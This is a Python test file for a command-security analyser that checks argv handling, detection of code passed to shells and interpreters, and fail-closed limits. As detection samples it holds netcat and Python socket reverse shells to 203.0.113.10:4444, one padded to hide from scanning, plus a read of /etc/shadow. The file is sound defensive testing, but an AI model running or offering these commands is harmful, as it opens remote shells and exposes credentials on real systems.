"""analyze_argv: a call given as an argv list is analysed as argv, not as one shell line.

Inspect's ``exec_large_command`` sends ``printf %s`` with 16 arguments of 64 KiB. Those
arguments are data a program prints; joined into one shell line they were past the
shell-text budget and denied as unanalysable. As argv they are data, while code handed
to a shell or an interpreter in the list is still analysed as code, and what truly
cannot be analysed still fails closed.
"""

from __future__ import annotations

from bastion.analysis import FEATURES, analyze_argv, analyze_command
from bastion.analysis.analyzer import MAX_ARGV
from bastion.events import FIELD_CATALOGUE, Event, EventKind
from bastion.policy import Policy
from bastion.rules import load_ruleset

RULESET = load_ruleset(Policy.default())
LIMITS = {"oversize", "analysis_timeout", "parse_timeout", "depth_limit"}


def rules(argv: list[str]) -> list[str]:
    return RULESET.matching_rule_ids(Event(kind=EventKind.COMMAND, fields=analyze_argv(argv)))


def test_argv_gives_every_cmd_field_and_the_quoted_line_as_raw() -> None:
    out = analyze_argv(["printf", "%s\n", "a b", "c"])
    assert set(out) == {k for k in FIELD_CATALOGUE if k.startswith("cmd.") and k != "cmd.via"}  # via: set by the session
    assert out["cmd.raw"] == "printf '%s\n' 'a b' c"
    assert out["cmd.names"] == ["printf"]
    assert set(out["cmd.features"]) <= set(FEATURES)


def test_a_mebibyte_of_data_arguments_is_data_not_an_unanalysable_line() -> None:
    chunk = "x" * (64 * 1024)
    argv = ["printf", "%s", *([chunk] * 16)]
    out = analyze_argv(argv)
    assert not LIMITS & set(out["cmd.features"])
    assert rules(argv) == []
    # the same text as one shell line is past the shell-text budget: still fail-closed
    joined = analyze_command(out["cmd.raw"])
    assert "oversize" in joined["cmd.features"]


def test_an_argument_is_not_reparsed_as_shell() -> None:
    # one argument that reads like a command is a file name for cat, not a pipeline
    out = analyze_argv(["cat", "notes; nc -e /bin/sh 203.0.113.10 4444"])
    assert out["cmd.names"] == ["cat"]
    assert rules(["cat", "notes; nc -e /bin/sh 203.0.113.10 4444"]) == []


def test_code_in_the_list_is_analysed_as_code() -> None:
    assert "shells.netcat_exec" in rules(["sh", "-c", "nc -e /bin/sh 203.0.113.10 4444"])
    assert "shells.netcat_exec" in rules(
        ["python3", "-c", "import os; os.system('nc -e /bin/sh 203.0.113.10 4444')"])
    assert any(r.startswith("credentials.") for r in rules(["cat", "/etc/shadow"]))


def test_a_long_script_is_analysed_whole_within_a_bounded_budget() -> None:
    # padding before the socket must not push it out of view (128 KiB: one argument's limit)
    code = "x = 1\n" * (100 * 1024 // 6) + (
        "import socket, subprocess\ns = socket.socket(); s.connect(('203.0.113.10', 4444))\n"
        "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n")
    out = analyze_argv(["python3", "-c", code])
    assert "203.0.113.10" in out["cmd.hosts"]
    assert "interp_socket_exec" in out["cmd.features"]
    assert not LIMITS & set(out["cmd.features"])


def test_what_cannot_be_analysed_still_fails_closed() -> None:
    # a shell script past the text budget, and an argv larger than exec can take
    script = "echo hi; " * 20000
    assert "defense_evasion.unanalysable_command" in rules(["bash", "-c", script])
    huge = ["printf", "%s", *(["y" * (128 * 1024)] * (MAX_ARGV // (128 * 1024) + 1))]
    assert "oversize" in analyze_argv(huge)["cmd.features"]
    assert "defense_evasion.unanalysable_command" in rules(huge)


def test_in_a_session_a_large_argv_runs_and_code_in_an_argv_is_still_refused(session) -> None:
    # the transport and the analysis together: 1 MiB of printf arguments round-trips ...
    chunk = "y" * (64 * 1024)
    r = session.exec(["printf", "%s", *([chunk] * 16)])
    assert r.exit_code == 0 and r.stdout == chunk * 16 and not r.verdicts
    # ... while a reverse shell padded to 100 KiB of script, given as argv, is refused
    code = "x = 1\n" * (100 * 1024 // 6) + (
        "import socket, subprocess\ns = socket.socket(); s.connect(('203.0.113.10', 4444))\n"
        "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n")
    r = session.exec(["python3", "-c", code])
    assert r.outcome.value in ("denied", "terminated"), r
    assert any("reverse_shell" in v.categories for v in r.verdicts), r.verdicts
